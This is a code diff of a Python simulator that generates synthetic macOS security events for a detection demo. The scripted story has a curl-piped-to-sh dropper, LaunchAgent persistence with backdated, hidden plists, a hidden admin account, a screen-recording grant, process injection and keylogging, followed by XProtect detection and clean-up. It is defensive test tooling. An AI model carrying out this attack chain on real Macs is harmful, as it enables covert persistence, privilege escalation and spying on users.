@@ -1,18 +1,21 @@
-"""What happens on the simulated Mac: the ``demo`` story and the ``bench`` mix.
+"""What happens on the simulated Mac: the ``demo`` story, and what every scenario shares
+(the user, her shell's environment, background churn).
 
 A scenario is a generator over a :class:`~osq_esf.corpus.world.Mac`; it yields now
-and then so the driver can stream the messages out.  Names a demo query can rely on
+and then so the driver can stream the messages out (the others: :mod:`.bench`).  Names a demo query can rely on
 are the module constants below (``DEMO_*``); osq_esf/data/README.md tells the story
 with the pids it produces.
 """
 
 from __future__ import annotations
 
-import itertools
 from typing import Iterator
 
+from osq_esf.corpus import kernel as k
+from osq_esf.corpus import userspace as u
+from osq_esf.corpus.userspace import REPORTERS
 from osq_esf.corpus.world import (
-    FAPPEND, FREAD, FWRITE, GID_STAFF, GID_TTY, GID_WHEEL, O_CLOEXEC, O_CREAT, O_TRUNC,
+    FREAD, FWRITE, GID_STAFF, GID_TTY, GID_WHEEL, O_CLOEXEC, O_CREAT, O_TRUNC,
     PROX_FDTYPE_PIPE, PROX_FDTYPE_VNODE, TMPDIR, Mac, Proc,
 )
 
@@ -55,14 +58,17 @@ DEMO_DAEMONS = (
     ("com.apple.fseventsd", "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/"
      "FSEvents.framework/Versions/A/Support/fseventsd", "com.apple.fseventsd", None),
     ("com.apple.securityd", "/usr/sbin/securityd", "com.apple.securityd", ["/usr/sbin/securityd", "-i"]),
-    ("com.apple.opendirectoryd", "/usr/libexec/opendirectoryd", "com.apple.opendirectoryd", None),
+    REPORTERS["opendirectoryd"][:3] + (None,),
     ("com.apple.trustd", "/usr/libexec/trustd", "com.apple.trustd", None),
     ("com.apple.metadata.mds", METADATA + "mds", "com.apple.mds", None),
     ("com.apple.metadata.mds_stores", METADATA + "mds_stores", "com.apple.mds_stores", None),
     ("com.apple.WindowServer", "/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer",
      "com.apple.WindowServer", ["/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer", "-daemon"]),
-    ("com.apple.loginwindow", "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow",
-     "com.apple.loginwindow", None),
+    REPORTERS["loginwindow"][:3] + (None,),
+    # The daemons that report the security events below, and the one that mounts disks.
+    *(REPORTERS[name][:3] + (None,) for name in ("backgroundtaskmanagementd", "tccd", "syspolicyd", "authd",
+                                                 "coreauthd")),
+    ("com.apple.diskarbitrationd", "/usr/libexec/diskarbitrationd", "com.apple.diskarbitrationd", None),
 )
 DEMO_AGENTS = (
     ("com.apple.cfprefsd.xpc.agent", "/usr/sbin/cfprefsd", "com.apple.cfprefsd", ["/usr/sbin/cfprefsd", "agent"]),
@@ -72,11 +78,47 @@ DEMO_AGENTS = (
     ("com.apple.mdworker.shared.0A000000-0000-0000-0000-000000000000", METADATA + "mdworker_shared",
      "com.apple.mdworker_shared", [METADATA + "mdworker_shared", "-s", "mdworker", "-c", "MDSImporterWorker",
                                    "-m", "com.apple.mdworker.shared"]),
+    REPORTERS["sharingd"][:3] + (None,),
 )
 DEMO_SAFARI_LABEL = "application.com.apple.Safari.2741585.2741591"
 DEMO_TERMINAL_LABEL = "application.com.apple.Terminal.2741601.2741608"
 DEMO_NETWORKING_LABEL = "com.apple.WebKit.Networking"
 DEMO_WEBCONTENT_LABEL = "com.apple.WebKit.WebContent"
+# The security acts, in story order (osq_esf/data/README.md).
+DEMO_GRAPHICAL_SESSION = 257  # alice's loginwindow session (lw_session_*, screensharing)
+DEMO_PROFILE = "com.example.invalid.wifi"  # the configuration profile MDM installs at login
+DEMO_OLD_PROFILE = "com.example.invalid.vpn-legacy"  # and the one it removes
+DEMO_DMG = f"{HOME}/Downloads/ExampleTool.dmg"  # downloaded by Safari (quarantined), then mounted
+DEMO_DMG_VOLUME = "/Volumes/ExampleTool"
+DEMO_GATEKEEPER_OVERRIDE = f"{DEMO_DMG_VOLUME}/ExampleTool.app/Contents/MacOS/ExampleTool"  # "Open Anyway"
+DEMO_LAUNCH_AGENT_URL = "file://" + DEMO_LAUNCH_AGENT  # BTM's item: the payload is its instigator
+DEMO_STAGED_AGENT = "/private/tmp/com.apple.sysupdate.helper.plist"  # the payload writes it here...
+DEMO_RENAMED_AGENT = f"{HOME}/Library/LaunchAgents/com.apple.sysupdate.helper.plist"  # ...and mv moves it
+DEMO_RENAMED_AGENT_URL = "file://" + DEMO_RENAMED_AGENT  # BTM's item: mv had exited, instigator null
+DEMO_SOCKET = "/private/tmp/.sysupdate.sock"  # the adopted payload listens, its root helper connects
+DEMO_TCC_SERVICE = "kTCCServiceScreenCapture"  # granted to DEMO_PAYLOAD (by path) in System Settings
+DEMO_SYSTEM_SETTINGS = "/System/Applications/System Settings.app/Contents/MacOS/System Settings"
+DEMO_AUTHORIZATION_RIGHT = "system.privilege.admin"  # the payload's petition, granted
+DEMO_HIDDEN_ADMIN = "_sysupdate"  # the hidden admin account its root helper creates
+DEMO_INJECTOR_TARGET = DEMO_WEBCONTENT_LABEL  # get_task + remote_thread_create into the first WebContent
+DEMO_IT_USER, DEMO_IT_UID = "ituser", 502
+DEMO_SSH_FROM = "192.0.2.10"  # ituser's SSH and Screen Sharing (TEST-NET-1, RFC 5737)
+DEMO_SSH_GUESSING = "198.51.100.23"  # failed SSH logins (TEST-NET-2)
+DEMO_MALWARE = "MACOS.SYSUPDATE.EXAMPLE"  # XProtect's (made-up) name for the payload
+# Every event type the story shows at least once (the detection-relevant families).
+DEMO_TYPES = (
+    "exec", "fork", "exit", "open", "write", "close", "create", "rename", "unlink", "mmap", "mprotect", "iokit_open",
+    "signal", "setmode", "setowner", "setflags", "utimes", "setextattr", "deleteextattr", "mount", "unmount",
+    "uipc_bind", "uipc_connect", "xpc_connect", "get_task", "get_task_read", "get_task_inspect", "get_task_name",
+    "trace", "remote_thread_create", "proc_suspend_resume", "cs_invalidated", "setuid",
+    "btm_launch_item_add", "btm_launch_item_remove", "tcc_modify", "gatekeeper_user_override",
+    "xp_malware_detected", "xp_malware_remediated", "authentication", "authorization_petition",
+    "authorization_judgement", "sudo", "su", "login_login", "login_logout", "lw_session_login", "lw_session_logout",
+    "lw_session_lock", "lw_session_unlock", "openssh_login", "openssh_logout", "screensharing_attach",
+    "screensharing_detach", "profile_add", "profile_remove", "od_create_user", "od_modify_password", "od_group_add",
+    "od_attribute_set", "od_enable_user", "od_disable_user", "od_create_group", "od_group_set",
+    "od_attribute_value_add", "od_attribute_value_remove", "od_delete_group", "od_group_remove", "od_delete_user",
+)
 
 SHELL_PATH = ("/opt/homebrew/bin:/opt/homebrew/sbin:/Users/alice/.pyenv/shims:/Users/alice/.cargo/bin:"
               "/Users/alice/go/bin:/Users/alice/.nvm/versions/node/v22.9.0/bin:/usr/local/bin:/System/Cryptexes/App/usr/bin:"
@@ -144,12 +186,12 @@ def _pool_picker(paths: list[str], write_share: float, max_writes: int = 3):
     return pick
 
 
-def _hex(rng, n: int) -> str:
+def hex_id(rng, n: int) -> str:
     return "%0*X" % (n, rng.getrandbits(4 * n))
 
 
-def _uuid(rng) -> str:
-    h = _hex(rng, 32)
+def uuid_of(rng) -> str:
+    h = hex_id(rng, 32)
     return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"
 
 
@@ -162,12 +204,14 @@ def _after_exec(mac: Mac, p: Proc) -> None:
 
 
 def demo(mac: Mac, events: int) -> Iterator[None]:
-    """Boot, a desktop session, Safari, and a Terminal where a curl|sh dropper runs."""
+    """Boot, a desktop session, Safari and a disk image, a Terminal where a curl|sh dropper
+    persists, escalates and injects, an IT admin's visit, XProtect's catch, the clean-up."""
     rng = mac.rng
     noise = Noise(mac)
-    story_estimate = 330
+    story_estimate = 720
     budget = max(0, events - story_estimate)
-    share = iter((0.08, 0.10, 0.12, 0.10, 0.12, 0.10, 0.10))
+    share = iter((0.07, 0.08, 0.09, 0.08, 0.09, 0.08, 0.08, 0.08, 0.07, 0.07))
+    session: list[Proc] = []  # alice's GUI session: it ends when she logs out
 
     def churn() -> None:
         noise.run(int(budget * next(share, 0.0)))
@@ -184,7 +228,7 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
         procs[label] = p
         mac.sleep(rng.uniform(0.05, 0.6))
     yield
-    spotlight_store = f"/private/var/db/Spotlight-V100/BootVolume/Store-V2/{_uuid(rng)}/"
+    spotlight_store = f"/private/var/db/Spotlight-V100/BootVolume/Store-V2/{uuid_of(rng)}/"
     mds_paths = [spotlight_store + n for n in (
         "0.indexHead", "0.indexIds", "0.indexBigDates", "0.indexGroups", "0.indexPositions", "0.indexPostings",
         "0.indexTermIds", "0.indexUpdates", "0.indexDirectory", "0.shadowIndexHead", "live.0.indexHead",
@@ -192,8 +236,12 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
         "tmp.spotlight.state", "psid.db", "reverseDirectoryStore", "dbStr-1.map.data", "dbStr-2.map.data")]
     noise.add(procs["com.apple.metadata.mds_stores"], 30, _pool_picker(mds_paths, 0.6, 4))
     noise.add(procs["com.apple.metadata.mds"], 8, _pool_picker(mds_paths[:8], 0.3))
+    mds_stores = procs["com.apple.metadata.mds_stores"]  # maps an index shared and writable
+    mac.open(mds_stores, mds_paths[0], FREAD | FWRITE)
+    mac.mmap(mds_stores, mds_paths[0], protection=3, max_protection=7, flags=0x1)
+    mac.close(mds_stores, mds_paths[0], modified=True, mapped_writable=True)
     tracev3 = [f"/private/var/db/diagnostics/Persist/{n:016X}.tracev3" for n in range(0x12A, 0x131)]
-    uuidtext = [f"/private/var/db/uuidtext/{_hex(rng, 2)}/{_hex(rng, 30)}" for _ in range(40)]
+    uuidtext = [f"/private/var/db/uuidtext/{hex_id(rng, 2)}/{hex_id(rng, 30)}" for _ in range(40)]
     noise.add(procs["com.apple.logd"], 18, _pool_picker(
         tracev3 + ["/private/var/db/diagnostics/Special/0000000000000043.tracev3",
                    "/private/var/db/diagnostics/HighVolume/000000000000001e.tracev3"] + uuidtext, 0.7))
@@ -207,13 +255,17 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
     churn()
     yield
 
-    # Login: alice's agents, in her audit session.
+    # Login at the console (opendirectoryd checks the password for loginwindow), then alice's agents.
     mac.sleep(6)
+    mac.authentication("od", True, _od_user("alice"), instigator=procs["com.apple.loginwindow"])
+    mac.lw_session("login", "alice", DEMO_GRAPHICAL_SESSION)
     for label, path, sid, args in DEMO_AGENTS:
         p = mac.launch_job(label, mac.image(path, sid), args, uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID)
         _after_exec(mac, p)
         procs[label] = p
+        session.append(p)
         mac.sleep(rng.uniform(0.1, 0.8))
+    _login_housekeeping(mac, procs)
     user_prefs = [f"{HOME}/Library/Preferences/{n}.plist" for n in (
         ".GlobalPreferences", "com.apple.dock", "com.apple.finder", "com.apple.Spotlight", "com.apple.Terminal",
         "com.apple.Safari", "com.apple.HIToolbox", "com.apple.LaunchServices/com.apple.launchservices.secure",
@@ -223,7 +275,7 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
     spot_cache = [f"{HOME}/Library/Caches/com.apple.Spotlight/{n}" for n in (
         "ModelCache.db", "ModelCache.db-wal", "ModelCache.db-shm", "SpotlightKnowledgeEvents/index.V2/journals/4/journal.5",
         "SpotlightKnowledgeEvents/index.V2/journals/4/journal.6", "com.apple.spotlight.app.plist",
-        "fsCachedData/" + _uuid(rng), "fsCachedData/" + _uuid(rng))]
+        "fsCachedData/" + uuid_of(rng), "fsCachedData/" + uuid_of(rng))]
     noise.add(procs["com.apple.Spotlight"], 12, _pool_picker(spot_cache, 0.5))
     docs = [f"{HOME}/Documents/{n}" for n in ("Quarterly plan.key", "notes.txt", "Résumé 2026.pdf", "budget.numbers",
                                                "会議メモ.md", "taxes/2025/1099-INT.pdf", "ideas.rtf")]
@@ -252,11 +304,13 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
         for _ in range(3):
             mac.mprotect(wc, 0x3_0000_0000 + rng.getrandbits(28) * 0x4000, 0x4000 * rng.randint(1, 64), 5)
     web_cache = [f"{HOME}/Library/Caches/com.apple.Safari/{n}" for n in ("Cache.db", "Cache.db-wal", "Cache.db-shm")]
-    web_cache += [f"{HOME}/Library/Caches/com.apple.WebKit.Networking/fsCachedData/{_uuid(rng)}" for _ in range(24)]
+    web_cache += [f"{HOME}/Library/Caches/com.apple.WebKit.Networking/fsCachedData/{uuid_of(rng)}" for _ in range(24)]
     noise.add(networking, 10, _pool_picker(web_cache, 0.5))
     noise.add(safari, 4, _pool_picker([f"{HOME}/Library/Safari/{n}" for n in (
         "History.db", "History.db-wal", "Bookmarks.plist", "LastSession.plist", "CloudTabs.db")], 0.4))
     procs[DEMO_SAFARI_LABEL] = safari
+    session += [safari, networking, *contents]
+    _disk_image(mac, safari, procs, session)
     churn()
     yield
 
@@ -277,17 +331,25 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
     _after_exec(mac, login)
     mac.open(login, "/private/etc/pam.d/login", FREAD)
     mac.close(login, "/private/etc/pam.d/login")
+    mac.login("login", login, "alice", ALICE)
     zsh = mac.fork(login, new_session=False)
     zsh.user(ALICE, GID_STAFF)
     zsh.pgid = zsh.pid
     mac.exec(zsh, mac.image("/bin/zsh", "com.apple.zsh"), ["-zsh"], env0, dyld_exec_path="/bin/zsh",
-             cwd=mac.dir(HOME), fds=_tty_fds(10))
+             cwd=mac.dir(HOME), fds=tty_fds(10))
     _after_exec(mac, zsh)
     for rc in (f"{HOME}/.zshenv", "/private/etc/zshrc", "/private/etc/zshrc_Apple_Terminal", f"{HOME}/.zshrc",
                f"{HOME}/.zsh_history"):
         mac.open(zsh, rc, FREAD | O_CLOEXEC)
         mac.close(zsh, rc)
     zsh_tools(mac, zsh, env0)
+    session.append(terminal)
+    # The disk image's tool was fine: alice strips its quarantine flag for good.
+    xattr = mac.spawn(zsh, mac.image("/usr/bin/xattr", "com.apple.xattr"),
+                      ["xattr", "-d", "com.apple.quarantine", DEMO_DMG], last_command(env0, "/usr/bin/xattr"),
+                      new_group=True)
+    mac.deleteextattr(xattr, DEMO_DMG, "com.apple.quarantine")
+    mac.exit(xattr, 0)
     churn()
     yield
 
@@ -296,19 +358,19 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
     pipe_id = 0x4E7F_1A2B_9C3D_5E6F & rng.getrandbits(63)
     curl_img = mac.image("/usr/bin/curl", "com.apple.curl")
     curl = mac.fork(zsh, new_group=True)
-    mac.exec(curl, curl_img, ["curl", "-fsSL", DEMO_SCRIPT_URL], _last_command(env0, "/usr/bin/curl"),
+    mac.exec(curl, curl_img, ["curl", "-fsSL", DEMO_SCRIPT_URL], last_command(env0, "/usr/bin/curl"),
              fds=[(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_PIPE, pipe_id), (2, PROX_FDTYPE_VNODE, None)])
     _after_exec(mac, curl)
     sh = mac.fork(zsh, pgid=curl.pid)
     sh_img = mac.image("/bin/sh", "com.apple.sh")
-    mac.exec(sh, sh_img, ["sh"], _last_command(env0, "/bin/sh"),
+    mac.exec(sh, sh_img, ["sh"], last_command(env0, "/bin/sh"),
              fds=[(0, PROX_FDTYPE_PIPE, pipe_id), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)])
     _after_exec(mac, sh)
     for cert in ("/private/etc/ssl/cert.pem", "/private/etc/ssl/openssl.cnf"):
         mac.open(curl, cert, FREAD)
         mac.close(curl, cert)
     mac.exit(curl, 0)
-    env_sh = _last_command(env0, "/bin/sh")
+    env_sh = last_command(env0, "/bin/sh")
     # 1. download the payload
     dl = mac.spawn(sh, curl_img, ["curl", "-fsSL", "-o", DEMO_PAYLOAD_ARG, DEMO_PAYLOAD_URL], env_sh)
     _after_exec(mac, dl)
@@ -334,7 +396,23 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
     mac.open(run, DEMO_LAUNCH_AGENT, FWRITE | O_CREAT | O_TRUNC)
     mac.write(run, DEMO_LAUNCH_AGENT, 612)
     mac.close(run, DEMO_LAUNCH_AGENT, modified=True)
+    #    Background Task Management learns of the agent; the payload is the instigator.
+    mac.btm_launch_item("add", DEMO_LAUNCH_AGENT_URL, executable_path=DEMO_PAYLOAD, instigator=run)
+    #    It backdates the plist and hides it (utimes, chflags hidden), and stages a second one.
+    backdated = mac.now - 400 * 86_400 * 10**9
+    mac.utimes(run, DEMO_LAUNCH_AGENT, backdated, backdated)
+    mac.setflags(run, DEMO_LAUNCH_AGENT, k.UF_HIDDEN)
+    mac.create(run, DEMO_STAGED_AGENT, 0o644, new_path=True)
+    mac.open(run, DEMO_STAGED_AGENT, FWRITE | O_CREAT | O_TRUNC)
+    mac.write(run, DEMO_STAGED_AGENT, 588)
+    mac.close(run, DEMO_STAGED_AGENT, modified=True)
     mac.exit(run, 0)
+    # 3b. mv /tmp/com.apple.sysupdate.helper.plist ~/Library/LaunchAgents/: a rename, nothing written there.
+    mv = mac.spawn(sh, mac.image("/bin/mv", "com.apple.mv"),
+                   ["mv", "/tmp/com.apple.sysupdate.helper.plist", f"{HOME}/Library/LaunchAgents/"], env_sh)
+    mac.rename(mv, DEMO_STAGED_AGENT, DEMO_RENAMED_AGENT)
+    mac.exit(mv, 0)
+    mac.btm_launch_item("add", DEMO_RENAMED_AGENT_URL, executable_path=DEMO_PAYLOAD, instigator=mv)
     # 4. nohup it in the background; sh exits and launchd adopts the child
     bg = mac.spawn(sh, mac.image("/usr/bin/nohup", "com.apple.nohup"), ["nohup", DEMO_PAYLOAD_ARG, "--daemon"], env_sh)
     mac.exec(bg, payload_img, [DEMO_PAYLOAD_ARG, "--daemon"], env_sh, dyld_exec_path=DEMO_PAYLOAD_ARG)
@@ -348,12 +426,14 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
                    "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/mtp@D400000/AppleMTPHIDTransport/trackpad")
     mac.create(bg, DEMO_KEYLOG, 0o600)
     noise.add(bg, 2, lambda r: (DEMO_KEYLOG, 1))
+    settings = _screen_recording_grant(mac, bg, session)
+    _escalate(mac, bg, payload_img, safari, contents[0])
     churn()
     yield
 
     # A developer pastes credentials on a command line (redaction demo).
     mac.sleep(30)
-    py_env = _last_command(env0 + DEMO_SECRETS[1:], "/usr/bin/python3")
+    py_env = last_command(env0 + DEMO_SECRETS[1:], "/usr/bin/python3")
     py = mac.spawn(zsh, mac.image("/usr/bin/python3", "com.apple.python3"),
                    ["python3", "-c", "import sys; print(sys.argv[1:])", DEMO_SECRETS[0], "--user=alice"], py_env,
                    new_group=True)
@@ -363,12 +443,17 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
              [clt, "-c", "import sys; print(sys.argv[1:])", DEMO_SECRETS[0], "--user=alice"], py_env)
     _after_exec(mac, py)
     mac.exit(py, 0)
+    _sudo_and_su(mac, zsh, env0)
     churn()
     yield
 
     # runningboardd reclaims a background WebContent process.
     mac.sleep(12)
     victim = contents[-1]
+    mac.proc_suspend_resume(procs["com.apple.runningboardd"], victim, k.SUSPEND)
+    mac.sleep(3)
+    mac.proc_suspend_resume(procs["com.apple.runningboardd"], victim, k.RESUME)
+    mac.sleep(5)
     mac.signal(procs["com.apple.runningboardd"], victim, 9)
     mac.exit(victim, signal=9)
     # Safari's networking process talks to a device, as apps do.
@@ -379,17 +464,53 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
                    "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/dcp@A0000000/AppleDCP")
     churn()
     yield
+
+    # An IT admin visits over SSH (after someone else's guessing) and Screen Sharing.
+    mac.sleep(20)
+    _it_visit(mac, rng)
+    churn()
+    yield
+
+    # alice steps away: the screen locks; her Apple Watch unlocks it.
+    mac.sleep(15)
+    mac.lw_session("lock", "alice", DEMO_GRAPHICAL_SESSION)
+    mac.sleep(90)
+    mac.authentication("auto_unlock", True, {"username": "alice", "type": u.AUTO_UNLOCK_MACHINE})
+    mac.lw_session("unlock", "alice", DEMO_GRAPHICAL_SESSION)
+    churn()
+    yield
+
+    # XProtect catches the payload: detection, SIGKILL, deletion, remediation.
+    mac.sleep(10)
+    _xprotect(mac, rng, bg)
+    # alice cleans up: the agents (BTM sees them go), the TCC grant, the hidden admin.
+    mac.sleep(30)
+    _clean_up(mac, zsh, env0, terminal)
+    churn()
+    yield
+
+    # She closes Terminal (login reports the logout) and logs out of the session.
+    mac.sleep(20)
+    mac.exit(zsh, 0)
+    mac.login("logout", login, "alice", ALICE)
+    mac.exit(login, 0)
+    mac.lw_session("logout", "alice", DEMO_GRAPHICAL_SESSION)
+    for p in session + [settings]:
+        if p.alive:
+            mac.exit(p, 0)
+    churn()
+    yield
     while mac.emitted < events:
         noise.run(min(200, events - mac.emitted))
         yield
 
 
-def _last_command(env: tuple, path: str) -> tuple:
+def last_command(env: tuple, path: str) -> tuple:
     """The environment a shell passes: ``_`` names the command being run."""
     return tuple(e for e in env if not e.startswith("_=")) + (f"_={path}",)
 
 
-def _tty_fds(extra: int = 0) -> list[tuple]:
+def tty_fds(extra: int = 0) -> list[tuple]:
     fds = [(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)]
     if extra:
         fds.append((extra, PROX_FDTYPE_VNODE, None))
@@ -402,11 +523,11 @@ def zsh_tools(mac: Mac, zsh: Proc, env: tuple) -> None:
                             (["git", "status"], "/usr/bin/git", "com.apple.git"),
                             (["uname", "-a"], "/usr/bin/uname", "com.apple.uname")):
         p = mac.fork(zsh, new_group=True)
-        mac.exec(p, mac.image(path, sid), args, _last_command(env, path))
+        mac.exec(p, mac.image(path, sid), args, last_command(env, path))
         _after_exec(mac, p)
         if args[0] == "git":
             clt = "/Library/Developer/CommandLineTools/usr/bin/git"
-            mac.exec(p, mac.image(clt, "com.apple.git"), [clt, "status"], _last_command(env, path))
+            mac.exec(p, mac.image(clt, "com.apple.git"), [clt, "status"], last_command(env, path))
             for f in (f"{HOME}/.gitconfig", f"{HOME}/src/osq-demo/.git/HEAD", f"{HOME}/src/osq-demo/.git/index"):
                 mac.open(p, f, FREAD)
                 mac.close(p, f)
@@ -414,294 +535,261 @@ def zsh_tools(mac: Mac, zsh: Proc, env: tuple) -> None:
         mac.sleep(mac.rng.uniform(1, 4))
 
 
-# -- bench -----------------------------------------------------------------------------------
+# -- the demo's security acts -------------------------------------------------------------------
 
-# The mix from the brief: ~60% open, 25% write, 5% exec, 5% fork/exit, 1% iokit_open, rest others.
-BENCH_MIX = (("open", 0.600), ("write", 0.250), ("exec", 0.050), ("fork", 0.025), ("exit", 0.025),
-             ("iokit_open", 0.010), ("close", 0.018), ("create", 0.006), ("rename", 0.004), ("unlink", 0.004),
-             ("mmap", 0.004), ("mprotect", 0.002), ("signal", 0.001), ("setmode", 0.001))
-IOKIT_CLASSES = ("IOHIDLibUserClient", "AppleUpstreamUserClient", "IOSurfaceRootUserClient", "AGXDeviceUserClient",
-                 "AppleKeyStoreUserClient", "RootDomainUserClient", "IOAudio2DeviceUserClient",
-                 "AppleMultitouchDeviceUserClient", "AppleSEPUserClient", "IOPMPowerSourceClient")
-# (what the shell runs, the binary it hands over to or None, signing id): Apple's tools.
-BENCH_TOOLS = (
-    ("/usr/bin/git", "/Library/Developer/CommandLineTools/usr/bin/git", "com.apple.git"),
-    ("/usr/bin/clang", "/Library/Developer/CommandLineTools/usr/bin/clang", "com.apple.clang"),
-    ("/usr/bin/python3", "/Library/Developer/CommandLineTools/Library/Frameworks/Python3.framework/Versions/3.9/"
-                         "Resources/Python.app/Contents/MacOS/Python", "com.apple.python3"),
-    ("/usr/bin/xcrun", "/Library/Developer/CommandLineTools/usr/bin/swift-frontend", "com.apple.swift-frontend"),
-    ("/usr/bin/make", "/Library/Developer/CommandLineTools/usr/bin/make", "com.apple.make"),
-    ("/bin/ls", None, "com.apple.ls"), ("/usr/bin/grep", None, "com.apple.grep"), ("/bin/cat", None, "com.apple.cat"),
-    ("/usr/bin/sed", None, "com.apple.sed"), ("/usr/bin/awk", None, "com.apple.awk"),
-    ("/usr/sbin/sysctl", None, "com.apple.sysctl"), ("/usr/bin/defaults", None, "com.apple.defaults"),
-    ("/usr/bin/plutil", None, "com.apple.plutil"), ("/usr/bin/osascript", None, "com.apple.osascript"),
-    ("/bin/sh", None, "com.apple.sh"), ("/usr/bin/env", None, "com.apple.env"),
-)
-BENCH_THIRD_PARTY = (
-    ("/opt/homebrew/Cellar/node/22.9.0/bin/node", "node", None, "adhoc"),
-    ("/opt/homebrew/Cellar/ripgrep/14.1.1/bin/rg", "rg", None, "adhoc"),
-    ("/opt/homebrew/Cellar/jq/1.7.1/bin/jq", "jq", None, "adhoc"),
-    ("/Applications/Docker.app/Contents/Resources/bin/docker", "com.docker.docker", "9BNSXJN65R", "devid"),
-    ("/usr/local/bin/terraform", "terraform", "EXAMPLE7QX", "devid"),
-)
+SUDO = ("/usr/bin/sudo", "com.apple.sudo")
+SYSADMINCTL = ("/usr/sbin/sysadminctl", "com.apple.sysadminctl")
+DSCL = ("/usr/bin/dscl", "com.apple.dscl")
+DSEDITGROUP = ("/usr/sbin/dseditgroup", "com.apple.dseditgroup")
 
 
-def _bench_paths(rng) -> dict[str, list[str]]:
-    """Thousands of distinct paths, grouped by who touches them."""
-    projects = ("osq-demo", "web-frontend", "payments-api", "infra", "ml-notebooks", "dotfiles")
-    exts = ("ts", "tsx", "js", "json", "py", "go", "rs", "swift", "md", "yaml", "lock", "toml", "h", "c")
-    dev = [f"{HOME}/src/{rng.choice(projects)}/{rng.choice(('src', 'lib', 'tests', 'cmd', 'internal', 'app'))}/"
-           f"{rng.choice(('core', 'api', 'util', 'models', 'views', 'handlers', 'db'))}/"
-           f"{_hex(rng, 6).lower()}_{rng.randint(0, 99)}.{rng.choice(exts)}" for _ in range(1800)]
-    dev += [f"{HOME}/src/web-frontend/node_modules/{rng.choice(('react', 'lodash', '@babel/core', 'typescript', 'webpack', 'eslint', '@types/node', 'vite', 'zod', 'rxjs'))}/"
-            f"{rng.choice(('dist', 'lib', 'cjs', 'esm', 'build'))}/{_hex(rng, 5).lower()}.js" for _ in range(1500)]
-    spotlight = [f"/private/var/db/Spotlight-V100/BootVolume/Store-V2/9D3B2C61-0F7E-4A8B-B3C2-71E5D0A4F9C8/{n}"
-                 for n in ("0.indexHead", "0.indexIds", "0.indexPostings", "live.0.indexHead", "store.db", ".store.db",
-                           "journalAttr.3", "0.indexPositions", "0.indexTermIds", "tmp.spotlight.state")]
-    spotlight += [f"{HOME}/Library/Metadata/CoreSpotlight/index.spotlightV3/{_hex(rng, 8)}.{i}" for i in range(300)]
-    logd = [f"/private/var/db/diagnostics/Persist/{0x12A + i:016X}.tracev3" for i in range(12)]
-    logd += [f"/private/var/db/uuidtext/{_hex(rng, 2)}/{_hex(rng, 30)}" for _ in range(400)]
-    prefs = [f"{HOME}/Library/Preferences/com.{rng.choice(('apple', 'google', 'microsoft', 'jetbrains', 'docker', 'tinyspeck'))}."
-             f"{_hex(rng, 4).lower()}.plist" for _ in range(250)]
-    prefs += [f"/Library/Preferences/com.apple.{n}.plist" for n in ("loginwindow", "security", "TimeMachine", "alf",
-                                                                     "Bluetooth", "SoftwareUpdate", "apsd", "windowserver")]
-    caches = [f"{HOME}/Library/Caches/{rng.choice(('com.apple.Safari', 'com.apple.WebKit.Networking', 'com.tinyspeck.slackmacgap', 'Google/Chrome/Default', 'com.microsoft.VSCode.ShipIt', 'pip', 'Homebrew/downloads'))}/"
-              f"fsCachedData/{_uuid(rng)}" for _ in range(900)]
-    system = [f"/System/Library/Frameworks/{rng.choice(('AppKit', 'Foundation', 'CoreData', 'Security', 'Metal', 'CoreML', 'WebKit', 'SwiftUI'))}"
-              f".framework/Versions/{rng.choice(('A', 'C'))}/Resources/{_hex(rng, 6).lower()}.{rng.choice(('plist', 'strings', 'nib', 'car', 'metallib'))}" for _ in range(500)]
-    system += [f"/usr/lib/lib{n}.dylib" for n in ("System.B", "c++.1", "objc.A", "sqlite3", "z.1", "xml2.2", "icucore.A")]
-    tmp = [f"/private{TMPDIR}/{rng.choice(('TemporaryItems', 'com.apple.dt.Xcode', 'node-compile-cache', 'pip-build', 'go-build'))}/"
-           f"{_hex(rng, 10).lower()}" for _ in range(500)]
-    docs = [f"{HOME}/{rng.choice(('Documents', 'Downloads', 'Desktop'))}/{rng.choice(('report', 'invoice', 'photo', 'notes', 'Résumé', 'スクリーンショット', 'draft'))} "
-            f"{rng.randint(1, 400)}.{rng.choice(('pdf', 'png', 'docx', 'txt', 'key', 'heic'))}" for _ in range(300)]
-    return {"dev": dev, "spotlight": spotlight, "logd": logd, "prefs": prefs, "caches": caches, "system": system,
-            "tmp": tmp, "docs": docs}
+def _od_user(name: str) -> dict:
+    """An OpenDirectory password check of a local user (authentication's od arm)."""
+    return {"record_type": "Users", "record_name": name, "node_name": u.LOCAL_NODE, "db_path": u.LOCAL_DB}
 
 
-def bench(mac: Mac, events: int) -> Iterator[None]:
-    """``events`` messages in BENCH_MIX proportions from a machine that has been up for hours."""
+def _member(name: str) -> dict:
+    return {"member_type": u.OD_MEMBER_USER_NAME, "member_value": name}
+
+
+def _tool(mac: Mac, parent: Proc, tool: tuple, args: list[str], env=None, **kw) -> Proc:
+    """``parent`` runs a command-line tool (posix_spawn: a fork and an exec)."""
+    return mac.spawn(parent, mac.image(*tool), args, env if env is not None else parent.env, **kw)
+
+
+def _login_housekeeping(mac: Mac, procs: dict) -> None:
+    """cfprefsd's atomic save (a rename onto the old plist) and MDM's profiles after login."""
     rng = mac.rng
-    pools = _bench_paths(rng)
-    all_paths = [p for ps in pools.values() for p in ps]
